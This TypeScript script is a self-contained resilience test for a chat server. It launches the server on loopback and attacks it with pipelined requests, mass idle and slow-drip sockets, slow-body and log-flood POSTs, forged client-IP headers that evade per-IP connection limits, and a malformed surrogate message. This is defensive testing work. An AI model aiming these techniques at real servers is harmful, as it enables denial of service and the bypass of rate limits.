/*
 * Reproduces the attacks of "Hold under attacks that stay inside every limit" against a server
 * it starts itself on 127.0.0.1 (`node dist/main.js` of --root), and reports what the server
 * suffered: exit, peak RSS, health and chat probes answered from another client address, log
 * volume. Loopback only (the targets are the server it started); bounded counts and durations;
 * it stops the server and itself at the end.
 *
 *   npm run attack -- <command> [--root DIR] [--seconds S] [--heap-mb MB] [--server-fds N]
 *                      [command options]
 *
 *   pipeline  [--sockets 40] [--requests 20000]  pipelined GET /health/live, never read
 *   idle      [--sockets 19000] [--drip-ms MS]    sockets that send nothing (or drip a header)
 *   slow-body [--sockets 1]                       POST with a 10 MB Content-Length and no body
 *   log-flood [--concurrency 20]                  90-byte POSTs announcing 10 MB, aborted
 *   spoof     [--sockets 20] [--extra 200]        forged Fly-Client-IP (sets TRUST_PROXY=true)
 *   surrogate                                     a chat message with a lone surrogate
 *
 * The attacker uses 127.0.0.2, the probes 127.0.0.3 (every 127.0.0.0/8 address is its own client
 * on Linux). Server settings come from the environment, as for `npm start`.
 */
import { ChildProcess, spawn } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { get } from 'node:http';
import { AddressInfo, Socket, connect, createServer } from 'node:net';
import path from 'node:path';
import { performance } from 'node:perf_hooks';
import readline from 'node:readline';
import { setTimeout as delay } from 'node:timers/promises';
import WebSocket from 'ws';

const ATTACKER = '127.0.0.2';
const PROBE = '127.0.0.3';
const PROBE_TIMEOUT_MS = 5_000;
const MAX_SECONDS = 600;
const MAX_SOCKETS = 19_500;

type Options = Record<string, number | string>;

interface Server {
  child: ChildProcess;
  port: number;
  exited: Promise<string>;
  exit: string | undefined;
  logBytes: number;
  errorLines: number;
  warnLines: number;
  outOfMemory: boolean;
  rssKb: number[];
}

/** Starts `node [--max-old-space-size] dist/main.js` of `root` on a free loopback port. */
async function startServer(
  root: string,
  heapMb: number | undefined,
  fds: number | undefined,
  env: Record<string, string>,
): Promise<Server> {
  const main = path.join(root, 'dist', 'main.js');
  if (!existsSync(main)) throw new Error(`${main} is missing: build it first (npx nest build)`);
  const node = [process.execPath, ...(heapMb ? [`--max-old-space-size=${heapMb}`] : []), main];
  // prlimit (util-linux) gives the server fewer descriptors than this process has.
  const [command, ...args] = fds ? ['prlimit', `--nofile=${fds}:${fds}`, ...node] : node;
  // Chosen here rather than read from the "listening" line, which LOG_LEVEL=error hides.
  const port = await freePort();
  const child = spawn(command, args, {
    cwd: root,
    env: { ...process.env, ...env, PORT: String(port), HOST: '127.0.0.1', NO_COLOR: '1' },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  const server: Server = {
    child,
    port: 0,
    exit: undefined,
    exited: new Promise((resolve) =>
      child.once('exit', (code, signal) =>
        resolve(signal ? `killed by ${signal}` : `exit ${code}`),
      ),
    ),
    logBytes: 0,
    errorLines: 0,
    warnLines: 0,
    outOfMemory: false,
    rssKb: [],
  };
  void server.exited.then((exit) => (server.exit = exit));
  const listening = new Promise<void>((resolve, reject) => {
    for (const stream of [child.stdout, child.stderr]) {
      if (!stream) continue;
      readline.createInterface({ input: stream }).on('line', (line) => {
        server.logBytes += Buffer.byteLength(line) + 1;
        if (/\bERROR\b|"level":"error"/.test(line)) server.errorLines += 1;
        if (/\bWARN\b|"level":"warn"/.test(line)) server.warnLines += 1;
        if (/heap out of memory/i.test(line)) server.outOfMemory = true;
      });
    }
    void server.exited.then((exit) => reject(new Error(`server ${exit} before listening`)));
    const poll = async (): Promise<void> => {
      for (let attempt = 0; attempt < 300 && !server.exit; attempt++) {
        if (await probeHealth(port, '127.0.0.1')) return resolve();
        await delay(100);
      }
      reject(new Error('the server did not answer /health/live within 30 s'));
    };
    void poll();
  });
  server.port = port;
  await listening;
  const sampler = setInterval(() => {
    const kb = rssKb(child.pid);
    if (kb !== undefined) server.rssKb.push(kb);
  }, 250);
  void server.exited.then(() => clearInterval(sampler));
  return server;
}

function freePort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const probe = createServer();
    probe.once('error', reject);
    probe.listen(0, '127.0.0.1', () => {
      const { port } = probe.address() as AddressInfo;
      probe.close(() => resolve(port));
    });
  });
}

function rssKb(pid: number | undefined): number | undefined {
  if (pid === undefined) return undefined;
  try {
    const match = /VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'));
    return match ? Number(match[1]) : undefined;
  } catch {
    return undefined;
  }
}

async function stopServer(server: Server): Promise<string> {
  if (server.exit) return server.exit;
  server.child.kill('SIGTERM');
  const timer = setTimeout(() => server.child.kill('SIGKILL'), 15_000);
  const exit = await server.exited;
  clearTimeout(timer);
  return exit;
}

/** GET /health/live from the probe address on a fresh connection; its latency or undefined. */
function probeHealth(port: number, localAddress = PROBE): Promise<number | undefined> {
  const started = performance.now();
  return new Promise((resolve) => {
    const request = get(
      { host: '127.0.0.1', port, path: '/health/live', localAddress, agent: false },
      (response) => {
        response.resume();
        response.once('end', () =>
          resolve(response.statusCode === 200 ? performance.now() - started : undefined),
        );
      },
    );
    request.setTimeout(PROBE_TIMEOUT_MS, () => request.destroy());
    request.once('error', () => resolve(undefined));
  });
}

/** A chat client on the probe address: joins once, then times a message round trip per call. */
class ChatProbe {
  private socket: WebSocket | undefined;
  private seq = 0;

  constructor(private readonly port: number) {}

  async roundTrip(): Promise<number | undefined> {
    try {
      const socket = await this.open();
      const content = `probe ${++this.seq}`;
      const started = performance.now();
      const echoed = new Promise<void>((resolve, reject) => {
        const timer = setTimeout(() => reject(new Error('timeout')), PROBE_TIMEOUT_MS);
        const onMessage = (data: WebSocket.RawData): void => {
          if (!text(data).includes(`"${content}"`)) return;
          clearTimeout(timer);
          socket.off('message', onMessage);
          resolve();
        };
        socket.on('message', onMessage);
      });
      socket.send(JSON.stringify({ type: 'chat_message', userId: 'probe', content }));
      await echoed;
      return performance.now() - started;
    } catch {
      this.socket?.terminate();
      this.socket = undefined;
      return undefined;
    }
  }

  close(): void {
    this.socket?.terminate();
  }

  private async open(): Promise<WebSocket> {
    if (this.socket?.readyState === WebSocket.OPEN) return this.socket;
    const socket = new WebSocket(`ws://127.0.0.1:${this.port}/ws`, {
      localAddress: PROBE,
      handshakeTimeout: PROBE_TIMEOUT_MS,
    });
    socket.on('error', () => undefined);
    await new Promise<void>((resolve, reject) => {
      socket.once('open', () => resolve());
      socket.once('error', reject);
      socket.once('unexpected-response', () => reject(new Error('refused')));
    });
    const joined = new Promise<void>((resolve, reject) => {
      const timer = setTimeout(() => reject(new Error('join timeout')), PROBE_TIMEOUT_MS);
      socket.once('message', () => {
        clearTimeout(timer);
        resolve();
      });
    });
    socket.send(JSON.stringify({ type: 'join', userId: 'probe', roomId: 'probe' }));
    await joined;
    this.socket = socket;
    return socket;
  }
}

interface ProbeTally {
  health: (number | undefined)[];
  chat: (number | undefined)[];
}

/** Probes health and chat once a second until `signal` aborts. */
async function probe(port: number, signal: AbortSignal): Promise<ProbeTally> {
  const tally: ProbeTally = { health: [], chat: [] };
  const chat = new ChatProbe(port);
  while (!signal.aborted) {
    const [health, roundTrip] = await Promise.all([probeHealth(port), chat.roundTrip()]);
    tally.health.push(health);
    tally.chat.push(roundTrip);
    await delay(1_000, undefined, { signal }).catch(() => undefined);
  }
  chat.close();
  return tally;
}

/** A text frame as a string (ws hands it over as one Buffer by default). */
function text(data: WebSocket.RawData): string {
  if (Array.isArray(data)) return Buffer.concat(data).toString();
  return Buffer.isBuffer(data) ? data.toString() : Buffer.from(data).toString();
}

function rawSocket(port: number, localAddress = ATTACKER): Promise<Socket> {
  return new Promise((resolve, reject) => {
    const socket = connect({ host: '127.0.0.1', port, localAddress });
    // A server out of descriptors stops accepting: the connect would wait for the kernel's timeout.
    const timer = setTimeout(() => {
      socket.destroy();
      reject(new Error('connect timeout'));
    }, PROBE_TIMEOUT_MS);
    socket.once('connect', () => {
      clearTimeout(timer);
      resolve(socket);
    });
    socket.once('error', (error) => {
      clearTimeout(timer);
      reject(error);
    });
  });
}

/**
 * Opens `count` raw sockets, `batch` at a time; failed connects are counted, not thrown. `held`
 * collects how long (ms since the first connect) each socket lasted until closed by the server.
 */
async function openSockets(port: number, count: number, batch = 500) {
  const started = performance.now();
  const sockets: Socket[] = [];
  const held: number[] = [];
  let failed = 0;
  for (let opened = 0; opened < count; opened += batch) {
    const wave = Array.from({ length: Math.min(batch, count - opened) }, () =>
      rawSocket(port).then(
        (socket) => {
          socket.on('error', () => undefined);
          // Reading (and dropping) what arrives is what lets a close by the server be seen.
          socket.resume();
          socket.once('close', () => {
            if (!closing.has(socket)) held.push(performance.now() - started);
          });
          return socket;
        },
        () => undefined,
      ),
    );
    for (const socket of await Promise.all(wave)) {
      if (socket) sockets.push(socket);
      else failed += 1;
    }
  }
  return { sockets, failed, held };
}

/** Sockets this tool closes itself, so that their close is not counted as the server's. */
const closing = new WeakSet<Socket>();

function closeAll(sockets: Socket[]): void {
  for (const socket of sockets) {
    closing.add(socket);
    socket.destroy();
  }
}

const percentile = (values: number[], p: number): number | undefined => {
  if (values.length === 0) return undefined;
  const sorted = [...values].sort((a, b) => a - b);
  return sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))];
};
const round = (value: number | undefined): number | null =>
  value === undefined ? null : Math.round(value * 10) / 10;

function summarizeProbes(tally: ProbeTally) {
  const ok = (values: (number | undefined)[]) => values.filter((v): v is number => v !== undefined);
  const line = (values: (number | undefined)[], what: string): string => {
    const answered = ok(values);
    const slow = answered.filter((ms) => ms > 1_000).length;
    return (
      `${answered.length}/${values.length} ${what}, median ${round(percentile(answered, 50))} ms, ` +
      `max ${round(percentile(answered, 100))} ms, ${slow} over 1 s`
    );
  };
  return { health: line(tally.health, 'answered'), chat: line(tally.chat, 'round trips') };
}

function summarizeServer(server: Server, exit: string) {
  const peak = Math.max(0, ...server.rssKb) / 1024;
  return {
    exit: server.exit ?? exit,
    outOfMemory: server.outOfMemory,
    rssMb: `${round((server.rssKb[0] ?? 0) / 1024)} -> peak ${round(peak)}`,
    log: `${server.logBytes} bytes, ${server.errorLines} ERROR / ${server.warnLines} WARN lines`,
  };
}

/** Runs `attack` for `seconds` with the probes going; reports server, probes and attack figures. */
async function underProbes(
  server: Server,
  seconds: number,
  attack: (signal: AbortSignal) => Promise<Record<string, unknown>>,
) {
  const controller = new AbortController();
  const probes = probe(server.port, controller.signal);
  const stop = delay(seconds * 1_000).then(() => controller.abort());
  const figures = await attack(controller.signal);
  await stop;
  return { attack: figures, probes: summarizeProbes(await probes) };
}

const commands: Record<string, (server: Server, options: Options) => Promise<object>> = {
  async pipeline(server, options) {
    const count = Number(options.sockets ?? 40);
    const requests = Number(options.requests ?? 20_000);
    return underProbes(server, Number(options.seconds ?? 30), async () => {
      const { sockets, failed, held } = await openSockets(server.port, count);
      const burst = 'GET /health/live HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(requests);
      for (const socket of sockets) {
        socket.pause(); // never read
        socket.write(burst);
      }
      await delay(Number(options.seconds ?? 30) * 1_000 - 500);
      const closedByServer = held.length;
      closeAll(sockets);
      return {
        sockets: sockets.length,
        failedToConnect: failed,
        requestsEach: requests,
        closedByServer,
        closedWithinMs: round(percentile(held, 100)),
      };
    });
  },

  async idle(server, options) {
    const count = Math.min(MAX_SOCKETS, Number(options.sockets ?? 19_000));
    const dripMs = options['drip-ms'] === undefined ? undefined : Number(options['drip-ms']);
    return underProbes(server, Number(options.seconds ?? 30), async (signal) => {
      const { sockets, failed, held } = await openSockets(server.port, count);
      let drip: NodeJS.Timeout | undefined;
      if (dripMs !== undefined) {
        for (const socket of sockets) socket.write('GET /health/live HTTP/1.1\r\nHost: x\r\n');
        drip = setInterval(() => {
          for (const socket of sockets) if (!socket.destroyed) socket.write('X-Drip: 1\r\n');
        }, dripMs);
      }
      await new Promise((resolve) => signal.addEventListener('abort', resolve, { once: true }));
      clearInterval(drip);
      const closedByServer = held.length;
      closeAll(sockets);
      return {
        opened: sockets.length,
        failedToConnect: failed,
        closedByServer,
        heldMs: `median ${round(percentile(held, 50))}, max ${round(percentile(held, 100))}`,
      };
    });
  },

  async 'slow-body'(server, options) {
    const count = Number(options.sockets ?? 1);
    return underProbes(server, Number(options.seconds ?? 60), async (signal) => {
      const { sockets, held } = await openSockets(server.port, count);
      const answers: string[] = [];
      for (const socket of sockets) {
        socket.on('data', (chunk: Buffer) =>
          answers.push(chunk.toString('latin1').split('\r\n')[0]),
        );
        socket.write(
          'POST /health HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n' +
            'Content-Length: 10000000\r\n\r\n',
        );
      }
      await new Promise((resolve) => signal.addEventListener('abort', resolve, { once: true }));
      const closedByServer = held.length;
      closeAll(sockets);
      return {
        sockets: sockets.length,
        answers: [...new Set(answers.filter((line) => line.startsWith('HTTP/')))],
        closedByServer,
        heldMs: closedByServer > 0 ? round(percentile(held, 100)) : `> ${options.seconds ?? 60} s`,
      };
    });
  },

  async 'log-flood'(server, options) {
    const concurrency = Number(options.concurrency ?? 20);
    const seconds = Number(options.seconds ?? 10);
    const before = server.logBytes;
    const result = await underProbes(server, seconds, async (signal) => {
      let sent = 0;
      const request =
        'POST /health HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n' +
        'Content-Length: 10000000\r\n\r\n{"x":"yyyy"}';
      const worker = async (): Promise<void> => {
        while (!signal.aborted) {
          const socket = await rawSocket(server.port).catch(() => undefined);
          if (!socket) continue;
          socket.on('error', () => undefined);
          socket.write(request);
          sent += 1;
          // Gone before the body: whatever the server does with the request, it is aborted.
          await Promise.race([new Promise((resolve) => socket.once('close', resolve)), delay(50)]);
          socket.destroy();
        }
      };
      await Promise.all(Array.from({ length: concurrency }, worker));
      return { requests: sent, bytesEach: Buffer.byteLength(request) };
    });
    return {
      ...result,
      logRate: `${round((server.logBytes - before) / 1024 / seconds)} KB/s`,
    };
  },

  async spoof(server, options) {
    const count = Number(options.sockets ?? 20);
    const extra = Number(options.extra ?? 200);
    const open = (localAddress: string, headers: Record<string, string> = {}) =>
      new Promise<WebSocket | number>((resolve) => {
        const socket = new WebSocket(`ws://127.0.0.1:${server.port}/ws`, { localAddress, headers });
        socket.on('error', () => resolve(0));
        socket.once('open', () => resolve(socket));
        socket.once('unexpected-response', (_request, response) =>
          resolve(response.statusCode ?? 0),
        );
      });
    const sockets: WebSocket[] = [];
    const keep = (result: WebSocket | number): number => {
      if (typeof result === 'number') return result;
      sockets.push(result);
      return 101;
    };
    // Take the victim's quota: the attacker claims to be 127.0.0.3.
    for (let i = 0; i < count; i++) keep(await open(ATTACKER, { 'Fly-Client-IP': PROBE }));
    const victim = keep(await open(PROBE));
    for (const socket of sockets.splice(0)) socket.terminate();
    await delay(500);
    // Escape its own: fill it, then rotate the header.
    for (let i = 0; i < count; i++) keep(await open(ATTACKER));
    let escaped = 0;
    for (let i = 0; i < extra; i++) {
      const ip = `198.51.${100 + Math.floor(i / 250)}.${(i % 250) + 1}`;
      if (keep(await open(ATTACKER, { 'Fly-Client-IP': ip, 'X-Forwarded-For': ip })) === 101) {
        escaped += 1;
      }
    }
    for (const socket of sockets) socket.terminate();
    return { victimUpgrade: victim, escapedOwnQuota: `${escaped} of ${extra}` };
  },

  async surrogate(server) {
    const open = async (userId: string): Promise<{ socket: WebSocket; frames: string[] }> => {
      const socket = new WebSocket(`ws://127.0.0.1:${server.port}/ws?userId=${userId}`);
      const frames: string[] = [];
      socket.on('message', (data: WebSocket.RawData) => frames.push(text(data)));
      await new Promise((resolve, reject) => {
        socket.once('open', resolve);
        socket.once('error', reject);
      });
      return { socket, frames };
    };
    const alice = await open('alice');
    const bob = await open('bob');
    await delay(300);
    bob.socket.send(JSON.stringify({ type: 'switch_room', userId: 'bob', roomId: 'alice' }));
    await delay(300);
    alice.frames.length = 0;
    bob.frames.length = 0;
    bob.socket.send('{"type":"chat_message","userId":"bob","content":"x\\ud800y"}');
    await delay(500);
    alice.socket.terminate();
    bob.socket.terminate();
    return { senderGot: bob.frames, otherMemberGot: alice.frames };
  },
};

function parseArgs(argv: string[]): { command: string; options: Options } | string {
  const [command, ...rest] = argv;
  if (!command || !(command in commands))
    return `unknown command; one of ${Object.keys(commands).join(', ')}`;
  const options: Options = {};
  for (let i = 0; i < rest.length; i += 2) {
    const key = rest[i];
    const value = rest[i + 1];
    if (!key?.startsWith('--') || value === undefined) return `bad option ${key ?? ''}`;
    options[key.slice(2)] = /^\d+$/.test(value) ? Number(value) : value;
  }
  for (const key of [
    'seconds',
    'sockets',
    'requests',
    'extra',
    'concurrency',
    'heap-mb',
    'drip-ms',
  ]) {
    const value = options[key];
    if (value !== undefined && (typeof value !== 'number' || value <= 0))
      return `--${key} must be a positive integer`;
  }
  if (Number(options.seconds ?? 0) > MAX_SECONDS) return `--seconds is at most ${MAX_SECONDS}`;
  if (Number(options.sockets ?? 0) > MAX_SOCKETS) return `--sockets is at most ${MAX_SOCKETS}`;
  return { command, options };
}

async function main(argv: string[]): Promise<number> {
  const parsed = parseArgs(argv);
  if (typeof parsed === 'string') {
    console.error(
      `${parsed}\nusage: npm run attack -- <command> [--root DIR] [--seconds S] [--heap-mb MB] ...`,
    );
    return 2;
  }
  const { command, options } = parsed;
  const root = path.resolve(String(options.root ?? path.join(__dirname, '..')));
  const env: Record<string, string> =
    command === 'spoof'
      ? {
          TRUST_PROXY: 'true',
          MAX_CONNECTIONS_PER_IP: String(options.sockets ?? 20),
          // 127.0.0.1 is the proxy; the attacker (127.0.0.2) reaches the port directly.
          TRUSTED_PROXIES: '127.0.0.1',
        }
      : {};
  const heapMb = options['heap-mb'] === undefined ? undefined : Number(options['heap-mb']);
  const fds = options['server-fds'] === undefined ? undefined : Number(options['server-fds']);
  const server = await startServer(root, heapMb, fds, env);
  // Whatever happens, the run ends: the server and this process stop after the budget.
  const budget = setTimeout(
    () => {
      server.child.kill('SIGKILL');
      process.exit(3);
    },
    (Number(options.seconds ?? 60) + 60) * 1_000,
  );
  budget.unref();
  const figures = await commands[command](server, options);
  const diedDuringAttack = server.exit ?? null;
  const exit = await stopServer(server);
  const report = {
    command,
    root,
    heapMb: heapMb ?? null,
    ...figures,
    server: { diedDuringAttack, ...summarizeServer(server, exit) },
  };
  console.log(JSON.stringify(report, null, 2));
  return 0;
}

main(process.argv.slice(2)).then(
  (code) => process.exit(code),
  (error: unknown) => {
    console.error(error);
    process.exit(1);
  },
);
